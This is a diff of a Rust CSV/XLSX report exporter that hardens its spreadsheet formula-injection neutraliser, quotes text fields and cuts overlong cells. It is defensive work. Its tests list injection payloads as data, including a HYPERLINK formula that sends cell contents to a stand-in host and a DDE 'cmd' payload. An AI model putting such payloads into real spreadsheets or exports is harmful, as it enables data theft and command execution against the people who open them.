@@ -1,8 +1,9 @@
-//! Findings as CSV and XLSX for spreadsheet users. Text that a spreadsheet would run as a
-//! formula (`=`, `+`, `-`, `@`, tab, carriage return at the start) is prefixed with `'`.
+//! Findings as CSV and XLSX for spreadsheet users, and the formula-injection neutraliser
+//! every spreadsheet report shares ([`neutralise`]): text that a spreadsheet could run as a
+//! formula is prefixed with `'`.
 
 use crate::domain::finding::Finding;
-use crate::domain::money::format_money;
+use crate::domain::money::{format_money, format_rate};
 use rust_decimal::Decimal;
 use rust_decimal::prelude::ToPrimitive;
 
@@ -41,6 +42,12 @@ pub enum Value {
     Money(Decimal),
     /// A whole number.
     Integer(i64),
+    /// A day (ISO text in CSV and `findings.xlsx`, a date cell in `report.xlsx`).
+    Date(chrono::NaiveDate),
+    /// A rate as a fraction (`0.06` is 6%).
+    Rate(Decimal),
+    /// Yes or no.
+    Flag(bool),
 }
 
 impl Value {
@@ -49,20 +56,64 @@ impl Value {
     }
 }
 
-/// Makes text safe to open in a spreadsheet: a leading `=`, `+`, `-`, `@`, tab or carriage
-/// return would start a formula (CSV injection), so such text gets a leading `'`.
-pub fn neutralise(text: &str) -> String {
-    match text.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
-        _ => text.to_string(),
+/// The characters that start a formula in Excel, LibreOffice or Google Sheets when they
+/// open a cell's text: ASCII and their full-width forms (an IME types `＝` for `=`; whether
+/// Excel evaluates it is unconfirmed, so it is treated as if it did).
+const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// Whether a spreadsheet could read `text` as a formula: it starts with tab, carriage
+/// return, line feed or NUL (OWASP, ASVS 1.2.10), or its first character that is not
+/// white space or a double quote is one of [`FORMULA_STARTS`] (`-2+3`, `  =1+1`,
+/// `"=1+1"`, `＝1+1`).
+pub fn needs_neutralising(text: &str) -> bool {
+    if text.starts_with(['\t', '\r', '\n', '\0']) {
+        return true;
     }
+    text.chars()
+        .find(|character| !(character.is_whitespace() || matches!(character, '"' | '＂')))
+        .is_some_and(|character| FORMULA_STARTS.contains(&character))
+}
+
+/// Makes text safe to open in a spreadsheet (CSV injection, OWASP): text that
+/// [`needs_neutralising`] gets a leading `'`, which every spreadsheet shows as text. Used
+/// for every text cell of `findings.csv`, `findings.xlsx` and `report.xlsx`. A separator
+/// inside a field (`a,=1+1`, `a;=1+1`) cannot start a new cell because the CSV quotes
+/// every field that is not a number.
+pub fn neutralise(text: &str) -> String {
+    if needs_neutralising(text) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// The most UTF-16 units Excel holds in one cell.
+pub const CELL_TEXT_LIMIT: usize = 32_767;
+
+/// [`neutralise`], then cut to what one Excel cell holds (a longer text would make the
+/// whole workbook fail): the cut text ends with `…`. Returns the text and whether it
+/// was cut.
+pub fn cell_text(text: &str) -> (String, bool) {
+    let safe = neutralise(text);
+    if safe.encode_utf16().count() <= CELL_TEXT_LIMIT {
+        return (safe, false);
+    }
+    let mut units = 0;
+    let mut cut = String::new();
+    for character in safe.chars() {
+        units += character.len_utf16();
+        if units > CELL_TEXT_LIMIT - 1 {
+            break;
+        }
+        cut.push(character);
+    }
+    cut.push('…');
+    (cut, true)
 }
 
 /// One finding as a row of [`COLUMNS`].
 pub fn row(finding: &Finding) -> Vec<Value> {
-    let date = |day: Option<chrono::NaiveDate>| {
-        day.map_or(Value::Empty, |day| Value::Text(day.to_string()))
-    };
+    let date = |day: Option<chrono::NaiveDate>| day.map_or(Value::Empty, Value::Date);
     let money = |amount: Option<Decimal>| amount.map_or(Value::Empty, Value::Money);
     vec![
         Value::Text(finding.id.clone()),
@@ -105,7 +156,11 @@ pub fn row(finding: &Finding) -> Vec<Value> {
 /// # Errors
 /// Only if writing to memory fails.
 pub fn csv(findings: &[Finding]) -> Result<Vec<u8>, csv::Error> {
-    let mut writer = csv::WriterBuilder::new().from_writer(vec![0xEF, 0xBB, 0xBF]);
+    // Every field that is not a number is quoted (OWASP): a separator inside a text, `,`
+    // or the `;` of a locale whose list separator it is, can then never start a cell.
+    let mut writer = csv::WriterBuilder::new()
+        .quote_style(csv::QuoteStyle::NonNumeric)
+        .from_writer(vec![0xEF, 0xBB, 0xBF]);
     writer.write_record(COLUMNS)?;
     for finding in findings {
         let cells: Vec<String> = row(finding)
@@ -115,6 +170,9 @@ pub fn csv(findings: &[Finding]) -> Result<Vec<u8>, csv::Error> {
                 Value::Text(text) => neutralise(&text),
                 Value::Money(amount) => format_money(amount),
                 Value::Integer(number) => number.to_string(),
+                Value::Date(day) => day.to_string(),
+                Value::Rate(rate) => format_rate(rate),
+                Value::Flag(flag) => flag.to_string(),
             })
             .collect();
         writer.write_record(&cells)?;
@@ -153,7 +211,16 @@ pub fn xlsx(findings: &[Finding]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError>
                 Value::Empty => {}
                 // Strings are never evaluated by Excel, but a copy pasted elsewhere might be.
                 Value::Text(text) => {
-                    sheet.write_string(row, column, neutralise(&text))?;
+                    sheet.write_string(row, column, cell_text(&text).0)?;
+                }
+                Value::Date(day) => {
+                    sheet.write_string(row, column, day.to_string())?;
+                }
+                Value::Rate(rate) => {
+                    sheet.write_string(row, column, format_rate(rate))?;
+                }
+                Value::Flag(flag) => {
+                    sheet.write_boolean(row, column, flag)?;
                 }
                 Value::Money(amount) => {
                     sheet.write_number_with_format(
@@ -198,5 +265,76 @@ mod tests {
         assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
         assert_eq!(neutralise("-2+3"), "'-2+3");
         assert_eq!(neutralise("plain"), "plain");
+    }
+
+    /// Every payload of research row R1 comes out inert; ordinary text is left alone.
+    #[test]
+    fn every_r1_payload_is_neutralised() {
+        for payload in [
+            "=HYPERLINK(\"http://x/?\"&A1)",
+            "@SUM(1+1)",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "\t=1+1",
+            "\r=1+1",
+            "\n=1+1",
+            "\0=1+1",
+            "\"=1+1\"",
+            "＝1+1",
+            "＋1",
+            "－1",
+            "＠SUM(1)",
+            "  =1+1",
+            "\u{3000}=1+1",
+            "\u{a0}=1+1",
+        ] {
+            assert!(needs_neutralising(payload), "{payload:?}");
+            let safe = neutralise(payload);
+            assert_eq!(safe, format!("'{payload}"));
+            assert!(!needs_neutralising(&safe), "{safe:?}");
+        }
+        // A separator followed by a trigger starts no cell by itself; the CSV quotes it.
+        for text in [
+            "a,=1+1",
+            "a;=1+1",
+            "C-1",
+            "2025-01-01",
+            "'=already",
+            "",
+            "合同=1",
+        ] {
+            assert_eq!(neutralise(text), text, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn csv_quotes_text_so_a_separator_cannot_open_a_cell() {
+        // `Default::default()`: the finding's identifying fact does not matter here.
+        let mut finding = Finding::new(
+            crate::domain::finding::FindingType::UnmatchedPayout,
+            Default::default(),
+            "a;=1+1".into(),
+        );
+        finding.payout_id = Some("a,=1+1".into());
+        finding.contract_id = Some("=1+1".into());
+        finding.amount = Some(Decimal::new(-1250, 2));
+        let text = String::from_utf8(csv(&[finding]).unwrap()).unwrap();
+        let line = text.lines().nth(1).unwrap();
+        assert!(line.contains("\"a,=1+1\""), "{line}");
+        assert!(line.contains("\"a;=1+1\""), "{line}");
+        assert!(line.contains("\"'=1+1\""), "{line}");
+        // Money stays a bare number: no quote, no `'`.
+        assert!(line.contains(",-12.50,"), "{line}");
+    }
+
+    #[test]
+    fn text_longer_than_a_cell_is_cut_with_an_ellipsis() {
+        let long = "=".repeat(CELL_TEXT_LIMIT + 10);
+        let (cut, was_cut) = cell_text(&long);
+        assert!(was_cut);
+        assert!(cut.starts_with("'="));
+        assert!(cut.ends_with('…'));
+        assert_eq!(cut.encode_utf16().count(), CELL_TEXT_LIMIT);
+        assert_eq!(cell_text("short"), ("short".to_string(), false));
     }
 }
